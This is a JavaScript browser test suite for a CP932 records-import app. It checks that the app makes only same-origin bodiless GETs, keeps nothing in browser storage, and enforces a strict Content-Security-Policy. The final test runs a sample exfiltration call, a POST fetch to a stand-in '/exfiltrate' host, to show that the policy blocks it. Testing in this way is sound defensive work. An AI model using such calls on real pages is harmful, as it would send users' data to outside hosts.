// Privacy guard: the app makes no request except GETs of its own files, sends
// no body, and keeps imported records out of every browser store. The import of
// a CP932 file with a broken row is checked on the way.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { useAppAndBrowser, openApp, screenshot, cspViolations, root, recordsFolder, distFiles } from './harness.mjs';

const fixture = join(root, 'tests', 'fixtures', 'cp932-broken');

const env = useAppAndBrowser();

/** Every request stayed on the origin as a bodiless GET, no browser store holds
 *  anything, the policy refused nothing, and the page logged no error. */
async function assertNothingLeftOrStored(page, requests, errors) {
  const origin = new URL(env.server.url).origin;
  for (const r of requests) {
    assert.equal(new URL(r.url).origin, origin, `request left the origin: ${r.url}`);
    assert.equal(r.method, 'GET', `${r.method} ${r.url}`);
    assert.equal(r.body, null, `request with a body: ${r.url}`);
  }
  const stores = await page.evaluate(async () => ({
    local: Object.keys(localStorage),
    session: Object.keys(sessionStorage),
    cookie: document.cookie,
    idb: (await indexedDB.databases()).map((d) => d.name),
  }));
  assert.deepEqual(stores, { local: [], session: [], cookie: '', idb: [] });
  // Cache Storage holds the service worker's copy of the build's own files, and nothing else.
  const cached = await page.evaluate(async () => {
    const out = {};
    for (const name of await caches.keys()) out[name] = (await (await caches.open(name)).keys()).map((r) => r.url);
    return out;
  });
  const built = new Set(['/', ...distFiles().map((f) => `/${f}`)]);
  for (const [name, urls] of Object.entries(cached)) {
    assert.match(name, /^shuno-shell-[0-9a-f]{16}$/, `a cache of the app's own: ${name}`);
    for (const url of urls) assert.ok(built.has(new URL(url).pathname) && new URL(url).origin === origin, `cached: ${url}`);
  }
  assert.deepEqual(await cspViolations(page), [], 'the app attempted something its policy refuses');
  assert.deepEqual(errors, []);
}

test('no request leaves the origin, none has a body, nothing is stored', async () => {
  const requests = [];
  const { context, page, errors } = await openApp(env.browser, env.server.url);
  context.on('request', (r) => requests.push({ url: r.url(), method: r.method(), body: r.postData() }));
  // Requests made before the listener: the page load itself, re-checked below by reloading.
  await page.reload();
  await page.waitForSelector('[data-testid=settlement-table] tbody tr');

  await page.getByRole('button', { name: 'データ取込' }).click();
  const files = readdirSync(fixture).map((f) => join(fixture, f));
  await page.setInputFiles('[data-testid=file-input]', files);
  // The worker replaces the demo's report with this one when it is done.
  await page.waitForFunction(() => document.querySelector('[data-testid=import-totals]')?.textContent === '読込 16 = 採用 15 + 除外 1');

  // The summary reconciles and names the broken row.
  const progress = page.locator('tr[data-file="progress.csv"]');
  assert.equal(await progress.locator('[data-testid=read]').innerText(), '7');
  assert.equal(await progress.locator('[data-testid=accepted]').innerText(), '6');
  assert.equal(await progress.locator('[data-testid=rejected]').innerText(), '1');
  assert.match(await progress.innerText(), /CP932/);
  assert.equal(await page.innerText('[data-testid=import-totals]'), '読込 16 = 採用 15 + 除外 1');
  const problems = await page.locator('[data-testid=problem-list] tbody tr').allInnerTexts();
  assert.equal(problems.length, 1);
  assert.match(problems[0], /progress\.csv\s+5\s+事業者督励月数\s+9O\s+数値として読めません。/);
  assert.equal(await page.locator('[data-testid=demo-badge]').count(), 0, 'the demo badge is gone');
  await screenshot(page, 'import-cp932-broken');

  // The settlement is withheld (a table it reads lost a row), but the good rows
  // were loaded: the office names, with CP932 extension characters, are there.
  await page.getByRole('button', { name: '概況' }).click();
  assert.match(await page.innerText('body'), /データがありません|精算/);

  assert.ok(requests.length > 0, 'requests were observed');
  await assertNothingLeftOrStored(page, requests, errors);
  await context.close();
});

test('record files (personal data) are computed without a request and without storage', async () => {
  const dir = recordsFolder(500);
  const requests = [];
  const { context, page, errors } = await openApp(env.browser, env.server.url);
  context.on('request', (r) => requests.push({ url: r.url(), method: r.method(), body: r.postData() }));
  await page.getByRole('button', { name: 'データ取込' }).click();
  await page.setInputFiles('[data-testid=file-input]', readdirSync(dir).map((f) => join(dir, f)));
  await page.getByRole('button', { name: '督励記録' }).click();
  await page.waitForSelector('[data-testid=records-comparison] tbody tr', { timeout: 60_000 });
  await page.fill('[data-testid=duty-as-of]', '2027-01-15');
  await page.dispatchEvent('[data-testid=duty-as-of]', 'change');
  await page.waitForSelector('[data-testid=duty-offices][data-as-of="2027-01-15"]', { timeout: 60_000 });
  await page.waitForSelector('[data-testid=overdue-list] tbody tr', { timeout: 60_000 });
  // The overdue list can be saved: a download made on the page, not a request.
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-testid=export-overdue-csv]')]);
  assert.equal(download.suggestedFilename(), '期限超過者_2027-01-15.csv');
  // The workbook is written by the export worker, fetched from the app's own files.
  const [book] = await Promise.all([page.waitForEvent('download'), page.click('[data-testid=export-overdue-xlsx]')]);
  assert.equal(book.suggestedFilename(), '期限超過者_2027-01-15.xlsx');
  const bytes = Buffer.concat(await (await book.createReadStream()).toArray());
  assert.equal(bytes.subarray(0, 2).toString('latin1'), 'PK', 'an .xlsx is a zip');

  await assertNothingLeftOrStored(page, requests, errors);
  await context.close();
});

test('the page carries a Content-Security-Policy that allows only its own origin', async () => {
  const { context, page } = await openApp(env.browser, env.server.url);
  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /connect-src 'self'(;|$)/);
  assert.match(csp, /form-action 'none'/);
  const blocked = await page.evaluate(async () => {
    try {
      await fetch('http://127.0.0.2:9/exfiltrate', { method: 'POST', body: 'x' });
      return false;
    } catch {
      return true;
    }
  });
  assert.ok(blocked, 'a fetch to another origin is refused by the policy');
  assert.deepEqual(await cspViolations(page), ['connect-src http://127.0.0.2:9/exfiltrate']);
  await context.close();
});
